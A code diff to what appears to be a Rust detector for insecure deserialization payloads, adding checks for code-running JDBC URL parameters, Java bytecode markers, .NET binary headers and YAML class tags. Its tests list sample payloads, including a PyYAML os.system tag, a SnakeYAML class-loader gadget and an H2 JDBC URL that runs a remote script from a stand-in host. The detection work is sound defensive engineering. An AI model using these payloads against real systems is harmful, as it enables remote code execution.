@@ -10,7 +10,7 @@
 //! Source   CWE-502; Java Object Serialization Specification 6; MS-NRBF; Python `pickletools`.
 
 use super::marks::Marks;
-use super::search::{find, from, has, has_any, head, starts};
+use super::search::{find, from, has_any, head, starts};
 use super::sign::{Input, Sign, Signs, Strength};
 
 const PHP: usize = 0;
@@ -33,6 +33,9 @@ const RUBY_ENCODED: usize = 16;
 const GADGET_NAMED: usize = 17;
 const TYPE_NAME: usize = 18;
 const TOOL: usize = 19;
+const CONNECTS: usize = 20;
+const BYTECODE: usize = 21;
+const NAME: usize = 22;
 
 pub(super) const SIGNS: &[Sign] = &[
     Sign::new("php", Strength::Certain),
@@ -55,6 +58,9 @@ pub(super) const SIGNS: &[Sign] = &[
     Sign::new("gadget-named", Strength::Hint),
     Sign::new("type-name", Strength::Hint),
     Sign::new("tool", Strength::Hint),
+    Sign::new("connects", Strength::Certain),
+    Sign::new("bytecode", Strength::Likely),
+    Sign::new("name", Strength::Likely),
 ];
 
 /// Bytes that are read.
@@ -69,6 +75,11 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
     let text = head(input.text, TEXT_BYTES_MAX);
     if input.is_name {
         signs.note(TYPE_NAME, matches!(text, b"$type" | b"@type"));
+        let makes = matches!(
+            text,
+            b"py/object" | b"py/reduce" | b"py/type" | b"__js_function" | b"__cryo_type__"
+        );
+        signs.note(NAME, makes);
         return signs;
     }
     let text = text.trim_ascii_start();
@@ -76,6 +87,12 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
         return signs;
     }
     look_at_front(text, &mut signs);
+    if marks.has(Marks::COLON.and(Marks::EQUALS)) && marks.has_any(Marks::SEMICOLON.and(Marks::PLUS)) {
+        signs.note(CONNECTS, connects(text));
+    }
+    if marks.has(Marks::DOLLAR.and(Marks::LETTER)) {
+        signs.note(BYTECODE, memchr::memmem::find(text, b"$$BCEL$$").is_some());
+    }
     if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::DIGIT)) {
         look_at_php(text, &mut signs);
     }
@@ -95,12 +112,36 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
     signs
 }
 
+/// An address of a database whose driver runs or makes what the address says.
+fn connects(text: &[u8]) -> bool {
+    let Some(at) = find(text, b"jdbc:") else { return false };
+    let address = head(from(text, at + 5), 512);
+    has_any(
+        address,
+        &[
+            b"init=runscript",
+            b"init=create",
+            b"init=call",
+            b"autodeserialize=true",
+            b"socketfactory=",
+            b"clientrerouteserverjndiname=",
+            b"allowloadlocalinfile=true",
+            b"queryinterceptors=",
+            b"statementinterceptors=",
+        ],
+    )
+}
+
 fn look_at_front(text: &[u8], signs: &mut Signs) {
     let is_java = text.starts_with(b"rO0AB")
         || text.starts_with(b"\xAC\xED\x00\x05")
         || starts(text, b"aced0005") && text.len() > 24;
     signs.note(JAVA, is_java && !text.contains(&b' '));
-    signs.note(DOTNET, text.starts_with(b"AAEAAAD/////"));
+    let is_dotnet = text.starts_with(b"AAEAAAD/////")
+        || text.starts_with(b"\0\x01\0\0\0\xFF\xFF\xFF\xFF")
+        || starts(text, b"0001000000ffffffff");
+    signs.note(DOTNET, is_dotnet);
+    signs.note(BYTECODE, text.starts_with(b"yv66vg") || starts(text, b"cafebabe0000"));
     signs.note(
         STATE,
         text.starts_with(b"/wE")
@@ -201,32 +242,33 @@ fn is_pickle(text: &[u8]) -> bool {
 
 /// Tags of YAML that name a class.
 fn look_at_tags(text: &[u8], signs: &mut Signs) {
-    const PYTHON: &[&[u8]] = &[
-        b"!!python/object/apply:",
-        b"!!python/object/new:",
-        b"!!python/name:",
-        b"!!python/module:",
-        b"!!python/object:",
-    ];
     const JAVA_NAMES: &[&[u8]] =
-        &[b"!!javax.script.", b"!!java.net.", b"!!com.sun.", b"!!org.", b"!!java.lang.", b"!!com."];
-    let python = PYTHON.iter().find_map(|it| find(text, it).map(|at| from(text, at + it.len())));
+        &[b"javax.script.", b"java.net.", b"com.", b"org.", b"java.lang.", b"java.io.", b"sun."];
+    const PYTHON: &[&[u8]] = &[b"object/apply:", b"object/new:", b"name:", b"module:", b"object:"];
+    const RUBY: &[&[u8]] = &[b"object:", b"struct:", b"hash:", b"class:", b"object/"];
     let names = |it: &[u8]| it.first().is_some_and(|it| it.is_ascii_alphabetic() || *it == b'_');
-    let ruby = find(text, b"!ruby/").map(|at| from(text, at + 6));
-    let is_ruby = ruby.is_some_and(|it| {
-        [&b"object:"[..], b"struct:", b"hash:", b"class:", b"object/"]
-            .iter()
-            .any(|kind| it.strip_prefix(*kind).is_some_and(names))
-    });
-    let java = JAVA_NAMES.iter().find_map(|it| find(text, it).map(|at| from(text, at)));
-    let is_java =
-        java.is_some_and(|it| head(it, 128).contains(&b'[') || head(it, 128).contains(&b'{'));
-    let has_short = text.len() <= 1024;
-    signs.note(TAG, has_short && (python.is_some_and(names) || is_ruby || is_java));
-    signs.note(
-        TAG_NAMED,
-        has_short && (has(text, b"!!python/") || ruby.is_some() || java.is_some()),
-    );
+    let is_short = text.len() <= 1024;
+    if !is_short {
+        return;
+    }
+    for at in memchr::memchr_iter(b'!', text).take(PLACES_MAX) {
+        let tag = from(text, at + 1);
+        if let Some(kind) = tag.strip_prefix(b"ruby/") {
+            let makes = RUBY.iter().any(|it| kind.strip_prefix(*it).is_some_and(names));
+            signs.note(TAG, makes);
+            signs.note(TAG_NAMED, true);
+        }
+        let Some(class) = tag.strip_prefix(b"!") else { continue };
+        if let Some(kind) = class.strip_prefix(b"python/") {
+            let makes = PYTHON.iter().any(|it| kind.strip_prefix(*it).is_some_and(names));
+            signs.note(TAG, makes);
+            signs.note(TAG_NAMED, true);
+        } else if JAVA_NAMES.iter().any(|it| starts(class, it)) {
+            let makes = head(class, 128).iter().any(|it| matches!(it, b'[' | b'{'));
+            signs.note(TAG, makes);
+            signs.note(TAG_NAMED, true);
+        }
+    }
 }
 
 fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
@@ -272,6 +314,7 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
                 b"java.lang.runtime",
                 b"java.lang.processbuilder",
                 b"methodname>",
+                b"methodname=\"",
                 b"eventhandler",
             ],
         );
@@ -301,8 +344,11 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
 
 /// Where a class is named, at its last name, that is made because something happens when it is made.
 fn gadget(text: &[u8]) -> Option<usize> {
-    memchr::memchr2_iter(b'.', b'<', text).take(PLACES_MAX).find_map(|at| {
+    memchr::memchr3_iter(b'.', b'<', b'"', text).take(PLACES_MAX).find_map(|at| {
         let rest = from(text, at + 1);
+        if !rest.first().is_some_and(u8::is_ascii_alphabetic) {
+            return None;
+        }
         let length = rest.iter().take(48).take_while(|it| it.is_ascii_alphanumeric()).count();
         let name = head(rest, length);
         let before = head(text, at);
@@ -395,6 +441,8 @@ mod tests {
                 "AAEAAAD/////AQAAAAAAAAAMAgAAAElT",
                 "{\"a\":\"_$$ND_FUNC$$_function(){}()\"}",
                 "!!python/object/apply:os.system [\"id\"]",
+                "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://e.example/x.sql'",
+                "jdbc:mysql://e.example/x?autoDeserialize=true&y=1",
                 "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
                 "--- !ruby/object:Gem::Installer",
                 "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
